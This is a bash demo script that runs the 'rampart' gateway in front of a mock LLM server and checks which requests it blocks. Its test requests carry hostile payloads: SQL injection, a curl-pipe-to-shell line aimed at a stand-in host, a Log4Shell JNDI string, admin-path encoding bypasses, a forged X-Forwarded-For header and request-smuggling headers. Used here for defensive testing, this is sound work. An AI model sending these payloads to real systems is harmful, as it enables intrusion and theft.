#!/usr/bin/env bash
# Runs rampart on the shipped rules (rules/gateway.toml) in front of a real
# OpenAI-compatible server (llmock, standing in for LiteLLM) and shows what it lets
# through and what it refuses. Listeners move to unprivileged loopback ports.
# DEMO_EXIT=1 exits after the show (CI does this); otherwise rampart keeps serving.
set -euo pipefail
cd "$(dirname "$0")/.."

WEB=127.0.0.1:8000 LANGFUSE=127.0.0.1:8001 VM=127.0.0.1:8002 ADMIN=127.0.0.1:9901
VENV=${VENV:-.venv}

[ -x "$VENV/bin/llmock" ] || { python3 -m venv "$VENV" && "$VENV/bin/pip" install -q llmock; }
cargo build -q -p rampart --bin rampart

pids=()
cleanup() { for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done; }
trap cleanup EXIT

"$VENV/bin/llmock" serve -h 127.0.0.1 -p 4000 --log-level warning >/tmp/rampart-demo-llmock.log 2>&1 &
pids+=($!)
for _ in $(seq 100); do curl -sf "http://127.0.0.1:4000/v1/models" >/dev/null && break; sleep 0.2; done
if ! kill -0 "${pids[0]}" 2>/dev/null || ! curl -sf "http://127.0.0.1:4000/v1/models" | grep -q '"object"'; then
  echo "demo: llmock did not start on 127.0.0.1:4000 (is the port taken?); its log: /tmp/rampart-demo-llmock.log" >&2
  exit 1
fi

# Fresh random secrets for this run; in production they come from a secrets source.
export RAMPART_ORIGIN_VERIFY_SECRET=$(python3 -c 'import secrets; print(secrets.token_hex(24))')
export RAMPART_ADMIN_HEADER_SECRET=$(python3 -c 'import secrets; print(secrets.token_hex(24))')
"${CARGO_TARGET_DIR:-target}/debug/rampart" --rules rules --listen web=$WEB --listen langfuse=$LANGFUSE \
  --listen victoriametrics=$VM --admin $ADMIN 2>/tmp/rampart-demo.err >/tmp/rampart-demo.access.log &
pids+=($!)

for _ in $(seq 100); do
  curl -sf "http://$ADMIN/live" >/dev/null && break
  sleep 0.2
done
if ! curl -sf "http://$ADMIN/live" >/dev/null; then
  echo "rampart did not come up:" >&2
  cat /tmp/rampart-demo.err >&2
  exit 1
fi

failures=0
show() { # expected-status description curl-args...
  local want=$1 what=$2; shift 2
  local out code
  out=$(curl -s -w '\n%{http_code}' "$@")
  code=${out##*$'\n'}
  local body=${out%$'\n'*}
  if [ "$code" = "$want" ]; then mark="ok "; else mark="BAD"; failures=$((failures+1)); fi
  printf '%s %s  %-62s %s\n' "$mark" "$code" "$what" "${body:0:90}"
}
CHAT='{"model":"gpt-4o","messages":[{"role":"user","content":"hello"}]}'
OV="X-Origin-Verify: $RAMPART_ORIGIN_VERIFY_SECRET"

echo "rampart on $WEB (LiteLLM/Grafana), $LANGFUSE (Langfuse), $VM (VictoriaMetrics); admin $ADMIN"
show 403 "chat completion straight to the origin, no X-Origin-Verify" "http://$WEB/v1/chat/completions" -H 'content-type: application/json' -d "$CHAT"
show 200 "chat completion through the CDN (X-Origin-Verify set)" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' -d "$CHAT"
show 403 "SQL injection in the query string (WAF)" "http://$WEB/v1/models?id=1%27%20UNION%20SELECT%20api_key%20FROM%20keys--" -H "$OV"
show 200 "a prompt with a pasted shell script (llm profile: prose)" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' \
  -d '{"model":"gpt-4o","messages":[{"role":"user","content":"review: rm -rf /tmp/x && curl https://x.example/i.sh | sh; SELECT * FROM users"}]}'
show 403 "Log4Shell in a JSON field that is not prose" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' \
  -d '{"model":"gpt-4o","user":"${jndi:ldap://x.example/a}","messages":[{"role":"user","content":"hi"}]}'
show 403 "admin path /key/generate without X-Admin-Secret" "http://$WEB/key/generate" -H "$OV" -X POST
show 403 "the same, spelled /%6bey/generate" --path-as-is "http://$WEB/%6bey/generate" -H "$OV" -X POST
show 403 "the same, spelled /v1/../KEY/generate" --path-as-is "http://$WEB/v1/../KEY/generate" -H "$OV" -X POST
show 403 "VictoriaMetrics from outside the VPC, even with the header" "http://$VM/api/v1/query?query=up" -H "$OV"
show 403 "... and with a forged X-Forwarded-For: 10.20.0.7" "http://$VM/api/v1/query?query=up" -H "X-Forwarded-For: 10.20.0.7"
show 400 "ambiguous framing (Content-Length and Transfer-Encoding)" "http://$WEB/v1/models" -H "$OV" -H 'Content-Length: 3' -H 'Transfer-Encoding: chunked' -d 'abc'
echo
echo "metrics (http://$ADMIN/metrics):"
curl -s "http://$ADMIN/metrics" | grep -E '^rampart_(requests_total|plugin_verdicts_total)' | sed 's/^/  /'

if [ "$failures" -ne 0 ]; then
  echo "demo: $failures unexpected answers; rampart's log: /tmp/rampart-demo.err" >&2
  exit 1
fi
if [ "${DEMO_EXIT:-0}" = 1 ]; then exit 0; fi
echo
echo "rampart keeps serving; try the curl lines above, edit rules/gateway.toml, Ctrl-C to stop."
wait "${pids[1]}"
